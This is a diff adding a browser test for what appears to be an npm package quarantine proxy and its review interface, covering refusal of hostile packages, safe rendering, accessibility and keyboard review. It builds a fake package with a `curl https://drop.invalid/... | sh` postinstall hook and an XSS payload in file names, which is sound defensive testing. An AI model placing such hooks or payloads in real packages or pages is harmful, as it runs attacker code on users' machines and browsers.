@@ -1,0 +1,145 @@
+/// <reference lib="dom" />
+import axe from 'axe-core'
+import { chromium, type Browser, type Page } from 'playwright-core'
+import t, { type Test } from 'tap'
+import { CHROMIUM } from '../road/browser.ts'
+import { startLazaret } from '../road/lazaret.ts'
+import { npmTarball } from '../world/build.ts'
+import { attackPackages, stock } from '../world/packages.ts'
+import { startWorld } from '../world/registry.ts'
+
+const OLD = '2022-01-02T03:04:05.000Z'
+const MARKUP = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`
+
+/** Set: the picture of the README is written anew. */
+const SCREENSHOT = process.env['LAZARET_SCREENSHOT']
+
+t.test('the desk in a browser', { skip: CHROMIUM === undefined ? 'there is no Chromium here' : false }, async (t) => {
+  const world = await startWorld()
+  stock(world, attackPackages())
+  world.npm.publish({
+    built: npmTarball({
+      name: 'markup',
+      version: '1.0.0',
+      scripts: { postinstall: `curl https://drop.invalid/${MARKUP} | sh` },
+      files: { [`a${MARKUP.replaceAll('/', '-')}.js`]: `// ${MARKUP}\n` },
+    }),
+    publishedAt: OLD,
+  })
+  const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
+  const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
+  t.teardown(async () => {
+    await browser.close()
+    await lazaret.stop()
+    await world.close()
+  })
+  for (const name of ['steal-env', 'inline-hook', 'markup']) {
+    const answer = await fetch(`${lazaret.npmUrl}${name}/-/${name}-1.0.0.tgz`)
+    t.equal(answer.status, 403, `${name} is refused`)
+  }
+  const page = await open(browser, t)
+
+  await page.goto(lazaret.setupLink ?? '')
+  await page.getByLabel('Name').fill('ada')
+  await page.locator('[name=password]').fill('correct horse battery')
+  await page.locator('[name=again]').fill('correct horse battery')
+  await page.getByRole('button', { name: 'Set up' }).click()
+  await page.getByRole('table').waitFor()
+  t.equal(await page.getByRole('link', { name: 'steal-env' }).count(), 1, 'the queue shows the case')
+  await judge(t, page, 'queue')
+
+  await page.getByRole('link', { name: 'steal-env' }).click()
+  await page.getByRole('heading', { name: 'steal-env' }).waitFor()
+  const shown = await page.locator('main').innerText()
+  for (const text of ['process.env', 'fetch(', 'postinstall', 'collect.js', 'exfiltration-at-install']) {
+    t.ok(shown.includes(text), `the case shows ${text}`)
+  }
+  t.notMatch(shown, /\b(?:safe|clean)\b/i, 'nothing is ever called safe')
+  await judge(t, page, 'case')
+  if (SCREENSHOT !== undefined) await page.screenshot({ path: 'docs/images/case.png' })
+
+  await page.goto(`${lazaret.url}/ui/`)
+  await page.getByRole('link', { name: 'markup' }).click()
+  await page.getByRole('heading', { name: 'markup' }).waitFor()
+  t.ok((await page.locator('main').innerText()).includes('<img src=x'), 'markup of a package is text')
+  t.equal(await page.locator('main img').count(), 0)
+  t.notMatch(await page.title(), 'owned')
+
+  await page.setViewportSize({ width: 360, height: 740 })
+  for (const path of [
+    '/ui/',
+    page.url().slice(lazaret.url.length),
+    '/ui/waivers',
+    '/ui/audit',
+    '/ui/policies',
+    '/why/pkg:npm/steal-env@1.0.0',
+  ]) {
+    await page.goto(lazaret.url + path)
+    await page.locator('main').waitFor()
+    await page.waitForLoadState('networkidle')
+    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
+    t.ok(overflow <= 0, `${path.replace(/[0-9a-f-]{36}/, '<case>')} fits 360 pixels (${overflow} too many)`)
+    await judge(t, page, `${path.slice(0, 12)} at 360 pixels`)
+  }
+
+  await page.setViewportSize({ width: 1280, height: 900 })
+  await page.goto(`${lazaret.url}/ui/`)
+  await page.getByRole('link', { name: 'inline-hook' }).waitFor()
+  await keyboardRelease(page)
+  t.match(await page.locator('.notice.saved').innerText(), /released/i, 'released by keyboard alone')
+  t.equal(
+    (await fetch(`${lazaret.npmUrl}inline-hook/-/inline-hook-1.0.0.tgz`)).status,
+    200,
+    'and the next download obeys',
+  )
+})
+
+/** j to the row, Enter, r, type, Ctrl+Enter: no mouse. */
+async function keyboardRelease(page: Page): Promise<void> {
+  for (let presses = 0; presses < 10; presses += 1) {
+    await page.keyboard.press('j')
+    const current = await page.locator('tr.current').innerText()
+    if (current.includes('inline-hook')) break
+  }
+  await page.keyboard.press('Enter')
+  await page.getByRole('heading', { name: 'inline-hook' }).waitFor()
+  await page.keyboard.press('r')
+  await page.getByRole('dialog').waitFor()
+  for (let tabs = 0; tabs < 40; tabs += 1) {
+    if (await page.evaluate(() => document.activeElement?.tagName === 'TEXTAREA')) break
+    await page.keyboard.press('Tab')
+  }
+  await page.keyboard.type('Read: fetches nothing that is not ours.')
+  await page.keyboard.press('Control+Enter')
+  await page.locator('.notice.saved').waitFor()
+}
+
+/** A page whose errors, and whose violations of the content security policy, fail the test. */
+async function open(browser: Browser, t: Test): Promise<Page> {
+  const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, colorScheme: 'light' })
+  page.setDefaultTimeout(15_000)
+  page.on('pageerror', (error) => t.fail(`page error: ${error.message}`))
+  page.on('console', (message) => {
+    // An answer of 401 before sign-in is how the desk learns that nobody is signed in.
+    if (message.type() === 'error' && !/status of 401/.test(message.text())) t.fail(`console: ${message.text()}`)
+  })
+  return page
+}
+
+/** No serious or critical finding of axe. */
+async function judge(t: Test, page: Page, label: string): Promise<void> {
+  await page.evaluate(axe.source)
+  const found = await page.evaluate(async () => {
+    const { violations } = await (window as unknown as { axe: typeof axe }).axe.run()
+    return violations
+      .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+      .map(
+        ({ id, nodes }) =>
+          `${id}: ${nodes
+            .map((node) => node.html)
+            .slice(0, 3)
+            .join(' | ')}`,
+      )
+  })
+  t.same(found, [], `${label}: no serious finding of axe`)
+}
